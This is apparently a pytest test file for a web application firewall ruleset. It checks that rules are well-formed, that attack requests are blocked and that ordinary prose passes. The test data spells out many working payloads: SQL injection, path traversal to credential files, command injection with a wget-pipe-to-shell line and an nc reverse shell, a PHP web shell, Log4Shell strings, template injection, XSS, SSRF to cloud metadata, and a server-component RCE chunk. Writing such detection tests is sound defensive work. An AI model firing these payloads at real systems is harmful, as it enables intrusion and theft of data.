"""The shipped `failsmall-managed` ruleset: well-formed, and blocking attacks through the engine."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import quote

import pytest
import yaml

from failsmall.engine import Decision, Engine, Request, Verdict
from failsmall.engine.signatures import SignatureScanner
from failsmall.managed import MANAGED_RULESET_ID, managed_ruleset, managed_ruleset_text
from failsmall.managed.corpora import make_request
from failsmall.managed.measure import Inspector, managed_bundle
from failsmall.model.rules import Ruleset, ScoreAction

FAMILIES = {"lfi", "rfi", "rce", "php", "node", "ssti", "rsc", "xss", "sqli", "java"}


@pytest.fixture(scope="module")
def inspector() -> Iterator[Inspector]:
    yield Inspector(Engine.build(managed_bundle(paranoia_level=1)))


def verdict(inspector: Inspector, request: Request) -> Verdict:
    return inspector.engine.evaluate(request, inspector.state)


def test_the_yaml_validates_as_a_managed_ruleset() -> None:
    ruleset = Ruleset.model_validate(yaml.safe_load(managed_ruleset_text()))
    assert ruleset.id == MANAGED_RULESET_ID
    assert ruleset.kind == "managed"
    assert ruleset.score_threshold == 5
    assert ruleset.threshold_action.type == "block"
    assert ruleset.paranoia_level == 1


def test_every_rule_is_tagged_scored_and_has_signatures() -> None:
    ruleset = managed_ruleset()
    ids = [rule.id for rule in ruleset.rules]
    assert len(ids) == len(set(ids))
    levels = set()
    families = set()
    for rule in ruleset.rules:
        assert re.fullmatch(r"fsm-[a-z]+-\d{3}", rule.id), rule.id
        paranoia = [t for t in rule.tags if t.startswith("paranoia:")]
        assert paranoia in (["paranoia:1"], ["paranoia:2"]), rule.id
        levels.add(paranoia[0])
        rule_families = {t.removeprefix("family:") for t in rule.tags if t.startswith("family:")}
        assert rule_families, rule.id
        families |= rule_families
        assert isinstance(rule.action, ScoreAction), rule.id
        assert rule.match is not None, rule.id
        assert rule.description, rule.id
    assert levels == {"paranoia:1", "paranoia:2"}
    assert families == FAMILIES


def test_every_pattern_compiles_linear_time() -> None:
    matches = {r.id: r.match for r in managed_ruleset().rules if r.match is not None}
    assert SignatureScanner.compile(matches).chain_count >= 2


RSC_BOUNDARY = "----WebKitFormBoundaryx8jO2oVc6SWP3Sad"


def rsc_request(fields: list[tuple[str, str]], next_action: str = "x") -> Request:
    parts = [
        f'--{RSC_BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields
    ]
    body = ("".join(parts) + f"--{RSC_BOUNDARY}--\r\n").encode()
    headers = (
        ("Host", "app.example.com"),
        ("Next-Action", next_action),
        ("Accept", "text/x-component"),
        ("Content-Type", f"multipart/form-data; boundary={RSC_BOUNDARY}"),
    )
    return make_request("POST", "/", headers, body)


RSC_CHUNK = (
    '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,'
    '"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":'
    "\"process.mainModule.require('child_process').execSync('id');\","
    '"_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}'
)


@pytest.mark.parametrize(
    "fields",
    [
        [("0", RSC_CHUNK), ("1", '"$@0"'), ("2", "[]")],
        # The same chunk without the tell-tale command: the reference walk alone is enough.
        [("0", RSC_CHUNK.replace("child_process", "x").replace("process.", "")), ("1", '"$@0"')],
        # Only the constructor reference, split into another field.
        [("0", '{"_formData":{"get":"$2:constructor:constructor"}}'), ("2", '"$@0"')],
    ],
)
def test_the_rsc_multipart_exploit_is_blocked(
    inspector: Inspector, fields: list[tuple[str, str]]
) -> None:
    result = verdict(inspector, rsc_request(fields))
    assert result.decision is Decision.BLOCK
    assert "fsm-rsc-001" in result.matched_rules


def test_an_ordinary_server_action_passes(inspector: Inspector) -> None:
    request = rsc_request(
        [("1_$ACTION_ID_7f3a9c", ""), ("1_name", "Siobhán O'Brien"), ("0", '["$K1"]')],
        next_action="7f3a9c0d2e1b4a5c6d7e8f9a0b1c2d3e4f5a6b7c",
    )
    assert verdict(inspector, request).decision is Decision.ALLOW


ATTACKS = [
    ("sqli", "GET", "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", b""),
    ("sqli", "POST", "/login", b"user=admin%27%20OR%20%271%27%3D%271&password=x"),
    ("sqli", "GET", "/items?sort=price;%20DROP%20TABLE%20orders", b""),
    ("lfi", "GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", b""),
    ("lfi", "GET", "/.git/config", b""),
    ("rfi", "GET", "/page.php?include=http://203.0.113.9/shell.txt?", b""),
    ("rce", "GET", "/ping?host=127.0.0.1%3Bcat%20/etc/shadow", b""),
    ("rce", "POST", "/tools", b"cmd=%60wget%20http://x.example/a%20-O-%7Csh%60"),
    ("php", "POST", "/comment", b"body=%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20%3F%3E"),
    ("java", "GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D", b""),
    ("node", "GET", "/api?__proto__[isAdmin]=true", b""),
    ("ssti", "GET", "/hello?name=%7B%7B7*7%7D%7D", b""),
    ("xss", "GET", "/search?q=%3Csvg%2Fonload%3Dalert(document.domain)%3E", b""),
    ("xss", "POST", "/profile", b"website=javascript:alert(1)"),
]


@pytest.mark.parametrize(("family", "method", "uri", "body"), ATTACKS)
def test_attacks_of_every_family_are_blocked(
    inspector: Inspector, family: str, method: str, uri: str, body: bytes
) -> None:
    headers = (("Content-Type", "application/x-www-form-urlencoded"),) if body else ()
    result = verdict(inspector, make_request(method, uri, headers, body))
    assert result.decision is Decision.BLOCK
    assert any(rule.startswith(f"fsm-{family}-") for rule in result.matched_rules)


# Textbook payloads written for these tests (none from the CRS corpus), one query argument each.
TEXTBOOK = [
    "admin'--",
    "' or ''='",
    "1' ORDER BY 3--+",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1' AND 1=2 UNION SELECT NULL,version()--",
    "'; EXEC xp_cmdshell('dir')--",
    "x' AND extractvalue(1,concat(0x7e,database()))--",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "....//....//etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "/proc/self/environ",
    "..\\..\\..\\windows\\win.ini",
    "|id",
    "$(id)",
    "; ping -c 3 127.0.0.1",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "php://filter/convert.base64-encode/resource=index.php",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "constructor[prototype][admin]=1",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    'O:8:"stdClass":0:{}',
]


@pytest.mark.parametrize("payload", TEXTBOOK)
def test_textbook_payloads_are_blocked(inspector: Inspector, payload: str) -> None:
    request = make_request("GET", "/x?q=" + quote(payload, safe=""), (), b"")
    assert verdict(inspector, request).decision is Decision.BLOCK


def test_log4shell_in_a_header_is_blocked(inspector: Inspector) -> None:
    request = make_request("GET", "/", (("X-Api-Version", "${${lower:j}ndi:ldap://x/a}"),), b"")
    assert verdict(inspector, request).decision is Decision.BLOCK


BENIGN = [
    ("POST", "/contact", b"name=Se%C3%A1n+O%27Brien&message=Rock+%26+roll+isn%27t+dead%21"),
    ("GET", "/search?q=o%27brien+%26+sons+%2250%25+off%22", b""),
    ("POST", "/comments", b"text=Use+%60git+rebase+-i+HEAD%7E3%60+then+push."),
    ("GET", "/blog/2024/11/why-we-select-the-best-beans", b""),
    ("POST", "/api/notes", b"note=The+union+of+both+sets%3B+select+one+from+each."),
]


@pytest.mark.parametrize(("method", "uri", "body"), BENIGN)
def test_ordinary_requests_pass(inspector: Inspector, method: str, uri: str, body: bytes) -> None:
    headers = (("Content-Type", "application/x-www-form-urlencoded"),) if body else ()
    assert verdict(inspector, make_request(method, uri, headers, body)).decision is (Decision.ALLOW)


# Search terms and prose that share words and punctuation with attacks.
PROSE = [
    "Tom's Diner",
    "Select model: 'Pro' or 'Air'",
    "1/2 cup sugar & 2 eggs",
    "C:\\Program Files\\App",
    "price < 100 and rating > 4",
    "I said 'yes' and left",
    "it's 'good' or 'bad'",
    "drop-off at 5pm; update me",
    "Call me; more details tomorrow",
    "cat & dog hotel",
    "ls 400 lexus",
    "time to sleep (8h)",
    "he wrote: 'done' -- thanks",
    "user (admin) settings",
    "x >= 3 && y <= 4",
    "if (a == b) { return; }",
    "SELECT * is bad practice",
    "<b>bold</b> text",
    "=SUM(A1:A9)",
    "localhost:3000 dev server",
    "bin/rails server",
    "$HOME/projects",
    "He's 6'2\" tall",
    "${name} template",
    "{{ name }}",
    "while (true) loop question",
    "window.location.href question",
    "exec summary attached",
]


@pytest.mark.parametrize("text", PROSE)
def test_prose_that_looks_like_attacks_passes(inspector: Inspector, text: str) -> None:
    request = make_request("GET", "/search?q=" + quote(text, safe=""), (), b"")
    assert verdict(inspector, request).decision is Decision.ALLOW


def test_paranoia_level_selects_the_rules_that_run(inspector: Inspector) -> None:
    request = make_request("GET", "/?q=%3Cb%20class%3Dnote%3Ehi%3C/b%3E", (), b"")
    level2 = Inspector(Engine.build(managed_bundle(paranoia_level=2)))
    assert "fsm-xss-101" not in verdict(inspector, request).matched_rules
    assert "fsm-xss-101" in verdict(level2, request).matched_rules
